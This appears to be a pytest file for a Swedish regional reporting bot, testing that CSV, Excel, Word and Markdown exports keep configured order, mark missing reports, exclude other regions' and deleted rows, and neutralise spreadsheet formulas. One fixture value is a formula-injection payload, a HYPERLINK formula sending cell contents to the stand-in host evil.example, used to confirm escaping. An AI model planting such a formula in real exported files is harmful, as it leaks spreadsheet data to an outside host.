"""Exports: every format from one model, config order, missing marked, injection neutralised, no leaks."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from docx import Document
from openpyxl import load_workbook
from reporting_org import make_org
from sqlalchemy import update

from bot.db import Database
from bot.db.models import StatusUpdate
from reminders.export import FORMATS, build_report, export_filename
from reminders.periods import Quarter
from reminders.updates import StatusInput, Submitter, record_update

Q1 = Quarter(2025, 1)
BO = Submitter("U0HSF1", "Bo Berg", "slack")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'


@pytest.fixture
def seeded(db: Database) -> Database:
    org_id = make_org().organisation.id
    record_update(
        db, org_id, "hsf", "2025-Q1", StatusInput("not_started", done="Första utkast"), BO
    )
    record_update(
        db,
        org_id,
        "hsf",
        "2025-Q1",
        StatusInput(
            "some_deviation", done=EVIL, next_steps="+46 70 123", support_needed="@strateg"
        ),
        BO,
        now=datetime(2025, 4, 10, 12, 0, tzinfo=UTC),
    )
    # another region's row and a deleted row must never appear
    record_update(
        db,
        "other-region",
        "rsf",
        "2025-Q1",
        StatusInput("on_track", done="HEMLIGT annan region"),
        BO,
    )
    record_update(db, org_id, "kultur", "2025-Q1", StatusInput("on_track", done="RADERAD rad"), BO)
    with db.session() as session:
        session.execute(
            update(StatusUpdate)
            .where(StatusUpdate.administration_id == "kultur")
            .values(deleted_at=datetime(2025, 4, 11, tzinfo=UTC))
        )
    return db


def render(db: Database, fmt: str, lang: str = "sv") -> bytes:
    report = build_report(db, make_org(), Q1, lang=lang, now=datetime(2025, 4, 23, tzinfo=UTC))
    return FORMATS[fmt].render(report)


def test_report_model_rows_in_config_order_with_missing(seeded: Database) -> None:
    report = build_report(seeded, make_org(), Q1)
    assert [r.administration_id for r in report.rows] == ["hsf", "rsf", "kultur"]
    hsf, rsf, kultur = report.rows
    assert (hsf.status, hsf.revisions, hsf.submitted_by) == ("some_deviation", 2, "Bo Berg")
    assert (
        hsf.submitted_at is not None and hsf.submitted_at.strftime("%H:%M") == "14:00"
    )  # Stockholm
    assert rsf.missing and kultur.missing
    assert dict(report.counts)["Vissa avvikelser"] == 1
    assert dict(report.counts)["Ej rapporterat"] == 2
    assert export_filename(report, "xlsx") == "jambot-region-test-2025-Q1.xlsx"


def test_csv_has_bom_header_and_neutralised_formulas(seeded: Database) -> None:
    raw = render(seeded, "csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    # Issue 15: semicolons in Swedish, the separator Excel uses with Swedish regional settings.
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:4] == ["Förvaltnings-id", "Förvaltning", "Utvecklingsområde", "Läge"]
    assert [r[0] for r in rows[1:]] == ["hsf", "rsf", "kultur"]
    hsf = rows[1]
    assert hsf[3] == "Vissa avvikelser"
    assert hsf[4] == "'" + EVIL and hsf[5] == "'+46 70 123" and hsf[6] == "'@strateg"
    assert rows[2][3] == "Ej rapporterat" and rows[2][9] == "0"
    assert b"HEMLIGT" not in raw and b"RADERAD" not in raw


def test_xlsx_table_chart_frozen_header_and_guard(seeded: Database) -> None:
    # Issue 15: summary sheet first, ids last, staff text stored as text cells (no visible
    # apostrophe, never a formula), submission times as dates.
    book = load_workbook(io.BytesIO(render(seeded, "xlsx")))
    assert book.sheetnames == ["Sammanställning", "Rapporter"]
    sheet = book["Rapporter"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Förvaltning", "Utvecklingsområde", "Läge"]
    assert header[-1] == "Förvaltnings-id"
    assert [sheet.cell(row=r, column=len(header)).value for r in (2, 3, 4)] == [
        "hsf",
        "rsf",
        "kultur",
    ]
    done = sheet.cell(row=2, column=header.index("Gjort under kvartalet") + 1)
    assert done.value == EVIL and done.data_type == "s" and done.quotePrefix  # text, not a formula
    submitted = sheet.cell(row=2, column=header.index("Inskickad") + 1).value
    assert submitted == datetime(2025, 4, 10, 14, 0)  # a date, in Stockholm time
    assert sheet.cell(row=3, column=3).value == "Ej rapporterat"
    assert sheet.cell(row=3, column=1).fill.fgColor.rgb.endswith("FDE9D9")
    assert list(sheet.tables) == ["Kvartalsrapport"]
    summary = book["Sammanställning"]
    counts = {
        row[0].value: row[1].value
        for row in summary.iter_rows(max_col=2)
        if isinstance(row[1].value, int)
    }
    assert counts["Vissa avvikelser"] == 1 and counts["Ej rapporterat"] == 2
    assert len(summary._charts) == 2  # this quarter and the previous one
    values = [c.value for ws in book for row in ws.iter_rows() for c in row]
    assert not any(isinstance(v, str) and ("HEMLIGT" in v or "RADERAD" in v) for v in values)


def test_docx_summary_for_the_board(seeded: Database) -> None:
    # Issue 15 made the docx a board paper: the quarter in words, Sammanfattning and
    # Bedömning first, missing reports named in the summary rather than on the last page.
    doc = Document(io.BytesIO(render(seeded, "docx")))
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith(("Heading", "Title"))]
    assert headings[0] == "Kvartalsrapportering – Jämställdhetsintegrering"
    assert headings[1:] == [
        "Sammanfattning",
        "Stödbehov",
        "Bedömning",
        "Förslag till beslut",
        "Skickas till",
        "Förvaltningarnas rapporter",
        "Hälso- och sjukvårdsförvaltningen",
        "Regionstyrelseförvaltningen",
        "Kulturförvaltningen",
    ]
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Kvartal 1 2025 (januari–mars)" in text
    assert (
        "Läge: Vissa avvikelser" in text and EVIL in text
    )  # Word runs no formulas: shown as typed
    assert "Rapport saknas från Regionstyrelseförvaltningen och Kulturförvaltningen." in text
    counts = {row.cells[0].text: row.cells[1].text for row in doc.tables[0].rows}
    assert counts["Vissa avvikelser"] == "1" and counts["Ej rapporterat"] == "2"
    assert "HEMLIGT" not in text and "RADERAD" not in text


def test_markdown_in_english(seeded: Database) -> None:
    text = render(seeded, "md", lang="en").decode("utf-8")
    assert text.startswith("# Gender mainstreaming quarterly report 2025-Q1")
    assert "| Some deviation | 1 |" in text and "| Not reported | 2 |" in text
    assert text.rstrip().endswith("- Regionstyrelseförvaltningen\n- Kulturförvaltningen")
    assert "HEMLIGT" not in text


def test_all_reported_says_so(db: Database) -> None:
    org = make_org()
    for adm in org.administrations:
        record_update(db, org.organisation.id, adm.id, "2025-Q1", StatusInput("on_track"), BO)
    assert "Alla förvaltningar har rapporterat." in render(db, "md").decode()
